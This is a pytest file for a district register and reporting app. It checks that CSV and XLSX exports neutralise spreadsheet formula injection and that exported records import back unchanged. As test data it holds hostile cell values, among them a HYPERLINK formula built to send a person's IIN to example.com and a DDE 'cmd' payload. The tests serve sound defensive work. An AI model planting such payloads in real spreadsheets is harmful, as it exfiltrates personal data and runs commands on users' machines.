"""Text that a spreadsheet would run as a formula is written as text: behind a single quote in every
.csv (the register's export, the rejects file), as a string cell in every .xlsx (the export and the
period reports); the register exported with such text imports back unchanged."""

from __future__ import annotations

import csv
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.printing import activity as activity_reports
from app.printing import events as event_reports
from app.printing import grants as grant_reports
from app.printing import issues as issue_reports
from app.printing.members import export_list, import_people
from app.reports.tables import write_table
from app.rules.formulas import neutral, restored, runs_as_formula
from app.services import events, grants, local_issues, members, settings
from app.services.events import EventData
from app.services.grants import DonorData, ExpenseData, GrantData, LineData, TrancheData
from app.services.local_issues import IssueData

pytestmark = pytest.mark.every_database

# Clicked in a spreadsheet, it sends the IIN of column D away.
LINK = '=HYPERLINK("http://example.com/?"&D2,"click")'
HOSTILE = (LINK, "+SUM(1;2)", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0")


# The rule --------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", HOSTILE + ("=", "-", "+ 7 701", "-inf", "@"))
def test_text_starting_with_a_formula_sign_runs(text):
    assert runs_as_formula(text)
    assert neutral(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Мұқанов", "+77011234567", "-5", "+1.5", "-0,25", "1e5", "12.03.2026",
                                  "Abay = street", "#N/A", "x=1"])
def test_numbers_and_other_text_stay_as_they_are(text):
    assert not runs_as_formula(text)
    assert neutral(text) == text == restored(text)


@pytest.mark.parametrize("text", HOSTILE + ("'=1+1", "''=1+1", "'x", "'", "'-5", "+77011234567", "Мұқанов"))
def test_restored_gives_back_exactly_what_neutral_was_given(text):
    assert restored(neutral(text)) == text
    assert not runs_as_formula(neutral(text))


# The writers -------------------------------------------------------------------------------------------

def formula_cells(path: Path) -> list[str]:
    """Every cell of every sheet that a spreadsheet would not show as the text it holds."""
    book = load_workbook(path)
    return [f"{ws.title}!{cell.coordinate}" for ws in book.worksheets for row in ws.iter_rows() for cell in row
            if cell.data_type in ("f", "e")]


def texts(path: Path) -> set[str]:
    book = load_workbook(path)
    return {cell.value for ws in book.worksheets for row in ws.iter_rows() for cell in row
            if isinstance(cell.value, str)}


def test_a_table_is_written_as_text_to_csv_and_xlsx(tmp_path):
    rows = [[text, 5, None, "#N/A"] for text in HOSTILE] + [["+77011234567", -5, "-5", "Мұқанов"]]
    write_table(tmp_path / "t.csv", ["=Surname", "Number", "Empty", "Note"], rows)
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as f:
        lines = list(csv.reader(f))
    assert lines[0][0] == "'=Surname"
    assert [line[0] for line in lines[1:]] == ["'" + text for text in HOSTILE] + ["+77011234567"]
    assert lines[-1][1:] == ["-5", "-5", "Мұқанов"]  # numbers stay numbers
    write_table(tmp_path / "t.xlsx", ["=Surname", "Number", "Empty", "Note"], rows)
    assert formula_cells(tmp_path / "t.xlsx") == []
    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == list(HOSTILE) + ["+77011234567"]
    assert sheet["B2"].value == 5 and sheet["D2"].value == "#N/A"


def test_every_period_report_workbook_writes_titles_and_names_as_text(database, tmp_path):
    year = date.today().year - 1
    settings.save(district_name_kk=LINK, district_name_ru=LINK, centre_name_kk="@SUM(A1)", centre_name_ru="@SUM(A1)")
    local_issues.create(IssueData(title=LINK, category="Жолдар (дороги)", raised_on=date(year, 3, 2), village_id=1,
                                  raiser_name="-2+3", assignee="=1+1"), at=datetime(year, 3, 2, 10))
    events.create(EventData(LINK, "Курс (курс)", datetime(year, 3, 10, 10), datetime(year, 3, 10, 12), (1,),
                            organiser="=1+1"))
    donor = grants.save_donor(DonorData(LINK, "state", "940140000385"))
    grant = grants.create_grant(GrantData(donor, "=1+1", date(year, 2, 20), date(year, 3, 1), date(year, 12, 31),
                                          "KZT", "1 000 000", "@SUM(A1)", "+SUM(1;2)"),
                                [LineData("1", "=A1", "1 000 000")])
    grants.add_tranche(grant, TrancheData(date(year, 3, 1), "500 000", date(year, 3, 5), "500 000"))
    grants.add_expense(grant, ExpenseData(grants.get(grant).lines[0].id, date(year, 4, 1), "100", payee=LINK,
                                          note="-2+3"))
    start, end = date(year, 1, 1), date(year, 12, 31)
    for name, printer in (("issues", issue_reports.print_issues), ("events", event_reports.print_events),
                          ("grants", grant_reports.print_grants), ("activity", activity_reports.print_activity)):
        path = printer(start, end, "kk", tmp_path / f"{name}.xlsx")
        assert formula_cells(path) == [], name
        assert LINK in texts(path), name


# The register ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_register_exported_with_formula_text_imports_back_unchanged(database, tmp_path, suffix):
    person = members.create(members.MemberData(
        surname=LINK, given_name="Ерлан", village_id=1, iin="791028302728", phone="8 701 123 45 67",
        street="-2+3", occupation="@SUM(A1)", notes="=1+1"))
    before = members.get(person)
    path, count = export_list(tmp_path / f"register{suffix}")
    assert count == 1
    if suffix == ".csv":
        text = path.read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK(" in text and "'-2+3" in text and "+77011234567" in text
    else:
        assert formula_cells(path) == []
    result = import_people(path)
    assert (result.added, result.rejected, result.flagged, result.changes) == (0, [], [], [])
    assert members.get(person) == before  # its version too: nothing was rewritten


def test_the_rejects_file_writes_formula_text_behind_a_quote(database, tmp_path):
    source = tmp_path / "people.csv"
    with open(source, "w", encoding="utf-8-sig", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["Surname", "Given name", "Birth date", "Village"])
        writer.writerow([LINK, "Ерлан", "not a date", "Жарлыөзек"])
    result = import_people(source)
    assert result.added == 0 and len(result.rejected) == 1
    with open(result.rejects_path, encoding="utf-8-sig", newline="") as f:
        lines = list(csv.reader(f))
    assert lines[1][:2] == ["'" + LINK, "Ерлан"]
